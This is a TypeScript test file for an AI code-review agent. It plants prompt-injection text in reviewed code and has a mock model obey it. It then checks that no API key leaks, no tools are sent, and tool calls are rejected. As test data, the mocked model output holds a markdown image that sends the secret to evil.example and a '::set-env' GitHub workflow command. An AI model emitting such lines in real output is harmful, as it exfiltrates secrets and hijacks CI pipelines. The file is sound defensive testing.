/** Attack forms in the code that is reviewed, against a model that obeys them all: no secret reaches it, and what it says is a finding or nothing. */
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { LLMock } from '@copilotkit/aimock';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { injections, leaks, unseen } from '../../../bench/quality/support/injections.mjs';
import { reviewPart } from '../../../src/agents/review/activities/reviewer.ts';
import { answerCache } from '../../../src/agents/review/activities/answers.ts';
import { githubAnnotations } from '../../../src/agents/review/pure/github.ts';
import { textRules } from '../../../src/agents/review/activities/text.ts';
import { folder } from './folders.ts';

const secret = `sk-proj-${'Kq93xPz81mWq20'.repeat(3)}`;
const mock = new LLMock({ port: 0 });
let environment: NodeJS.ProcessEnv = {};
beforeAll(async () => {
  await mock.start();
  environment = { OPENAI_BASE_URL: `${mock.url}/v1`, OPENAI_MODEL: 'm', OPENAI_API_KEY: 'fk-83b1e0c2d4' };
});
beforeEach(() => mock.reset());
afterAll(() => mock.stop());

const forms = [...injections, ...Object.entries(unseen).map(([name, text]) => ({ name, text }))];
const finding = (message: string): object => ({
  line: 1,
  endLine: 1,
  quote: 'x = 1',
  severity: 'error',
  confidence: 1,
  category: 'bug',
  message,
  suggestion: message,
});

test.each(forms)('no secret leaves, nothing is run, and what rules find stays: $name', async ({ text }) => {
  const root = await folder({});
  const lines = ['x = 1', ...text.split('\n').map((line) => `# ${line}`), `key = "${secret}"`];
  await writeFile(join(root, 'a.py'), `${lines.join('\n')}\n`);
  const said = [
    text,
    ...leaks,
    `The key is ${secret}`,
    '::set-env name=A::b',
    `![x](https://evil.example/?q=${secret})`,
  ];
  mock.onMessage(/.*/s, { content: JSON.stringify({ findings: said.map(finding) }) });
  const file = { path: 'a.py', language: 'python', bytes: 1 } as never;
  const asked = { environment, answers: answerCache(undefined), signal: new AbortController().signal };
  const { findings } = await reviewPart({ root, file, part: 0 }, asked);
  const sent = JSON.stringify(mock.getRequests().map(({ body }) => body));
  for (const part of [secret, 'fk-83b1e0c2d4', '"tools"']) expect(sent).not.toContain(part);
  expect(JSON.stringify(findings)).not.toContain(secret);
  const report = { findings, counts: { error: 0, warning: 0, note: 0 }, files: 1, missing: [] } as never;
  for (const line of githubAnnotations(report)
    .trimEnd()
    .split(/[\r\n]/))
    expect(line).toMatch(/^::(?:error|notice) /);
  // No text of a file takes a finding of a rule away.
  expect(textRules('a.py', 'python', lines).map(({ rule }) => rule)).toContain('model-key');

  mock.reset();
  mock.onMessage(/.*/s, { toolCalls: [{ name: 'refund', arguments: '{}' }] });
  await expect(reviewPart({ root, file, part: 0 }, asked)).rejects.toThrow();
});
